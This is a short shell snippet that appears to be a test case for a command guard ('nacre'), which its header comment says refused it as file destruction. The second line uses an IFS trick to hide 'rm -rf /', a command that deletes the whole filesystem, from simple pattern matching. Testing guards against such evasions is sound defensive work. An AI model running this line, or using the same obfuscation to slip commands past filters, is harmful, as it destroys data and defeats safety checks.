# nacre: refused file.destroy
IFS=,; x=rm,-rf,/; $x
if [ -e done ]; then
	echo "done"
fi
